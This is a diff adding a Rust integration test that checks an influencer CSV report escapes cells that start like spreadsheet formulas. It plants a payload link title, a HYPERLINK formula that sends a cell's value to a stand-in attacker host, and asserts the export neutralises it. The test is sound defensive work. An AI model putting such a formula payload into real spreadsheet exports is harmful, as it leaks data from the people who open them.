@@ -130,3 +130,49 @@ async fn orders_through_a_short_and_through_the_code_alone_are_the_influencers_w
     assert_eq!(get_as(&app, &token, "/api/admin/v1/influencers/analytics").await.0, 403);
     assert_eq!(get_as(&app, &token, "/api/admin/v1/influencers/anna/report").await.0, 403);
 }
+
+/// The report is opened in spreadsheets: a link title an influencer typed as a formula must
+/// arrive as text (a `'` in front), while the amounts stay numbers (docs/security.md#csv-downloads).
+#[tokio::test]
+async fn a_report_cell_that_starts_like_a_formula_is_written_as_text() {
+    let app = spawn_app().await;
+    let (shop, _) = merchant_with_store(&app, "formulas").await;
+    let business = business_id(&app).await;
+    let body = json!({"username": "mal", "email": "mal@creators.io", "commission": 10,
+        "profile_image_url": "https://cdn.example/m.png",
+        "permissions": {"allow_creating_and_editing_links": true}});
+    let res = app.post_json("/api/admin/v1/influencers/create", &body).await;
+    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap_or_default());
+    let mal: String = {
+        let mut conn = app.state.db.get().expect("conn");
+        influencers::table
+            .filter(influencers::username.eq("mal"))
+            .select(influencers::id)
+            .first(&mut *conn)
+            .expect("id")
+    };
+    let picked = stocked_products(&app, &shop, 1);
+    let short =
+        insert_link(&app, "formulas", TestLink { kind: "SHORT", influencer_id: Some(&mal), ..Default::default() });
+    let title = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
+    {
+        let mut conn = app.state.db.get().expect("conn");
+        diesel::update(links::table.find(&short)).set(links::description.eq(title)).execute(&mut *conn).expect("title");
+    }
+    record_event(&app, &short, &short, "VIEW", "click-formula", today());
+    let placed = sandbox_order(&app, &shop, &[(picked[0].1, 1)], None, Some("click-formula")).await;
+    let (order, _) = wait_for_order(&app, &business, placed).await;
+    assert_eq!(influencer_of(&app, &order), Some((Some(mal.clone()), "CLICK".into())));
+
+    let res = app.get("/api/admin/v1/influencers/mal/report").await;
+    assert_eq!(res.status(), 200);
+    let text = res.text().await.expect("csv");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("rows");
+    assert_eq!(rows.len(), 1, "{text}");
+    assert_eq!(&rows[0][3], format!("'{title}"), "the title is text, not a formula");
+    for (column, value) in rows[0].iter().enumerate() {
+        assert!(!value.starts_with(['=', '+', '@', '\t', '\r']), "column {column} runs as a formula: {value:?}");
+    }
+    assert!(rows[0][4].parse::<f64>().is_ok(), "the total stays a number: {:?}", &rows[0][4]);
+}
